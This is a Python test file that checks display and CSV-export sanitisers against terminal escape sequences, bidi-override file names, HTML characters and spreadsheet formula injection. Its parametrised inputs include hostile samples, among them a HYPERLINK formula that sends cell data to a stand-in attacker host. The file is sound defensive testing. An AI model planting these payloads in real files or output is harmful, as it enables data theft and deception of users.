"""Hostile texts are inert wherever people see them."""

import csv
import html
import io
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from carrel.audit.shown import cell, inert, markup


@pytest.mark.parametrize(
    ("hostile", "shown"),
    [
        ("scan.example", "scan.example"),
        ("Zoë", "Zoë"),
        ("\x1b[2J\x1b]0;gone\x07", "\\x1b[2J\\x1b]0;gone\\x07"),
        ("\x9b31m", "\\x9b31m"),
        ("a\nb\rc\td", "a\\nb\\rc\\td"),
        ("txt.\u202eexe", "txt.\\u202eexe"),
        ("a\u200bb\u2028c", "a\\u200bb\\u2028c"),
        ("\ud800", "\\ud800"),
    ],
)
def test_a_terminal_obeys_nothing(hostile: str, shown: str) -> None:
    assert inert(hostile) == shown


@given(st.text())
def test_nothing_hidden_is_ever_shown(text: str) -> None:
    assert not {unicodedata.category(each) for each in inert(text)} & {"Cc", "Cf", "Cs", "Zl"}


@given(st.text())
def test_no_text_becomes_markup(text: str) -> None:
    assert not set("<>\"'") & set(markup(text))
    assert html.unescape(markup(text)) == inert(text)


@pytest.mark.parametrize(
    "formula",
    [
        '=HYPERLINK("http://evil.example?"&A1)',
        "+1+1",
        "-2",
        "@SUM(A1)",
        "  =1+1",
        "%0A=1",
        "|calc",
    ],
)
def test_a_spreadsheet_computes_nothing(formula: str) -> None:
    assert cell(formula) == "'" + formula


@given(st.text())
def test_no_cell_begins_with_what_computes(text: str) -> None:
    out = io.StringIO()
    csv.writer(out).writerow([cell(text)])
    read = next(csv.reader(io.StringIO(out.getvalue(), newline="")), [""])
    assert not read[0].lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))
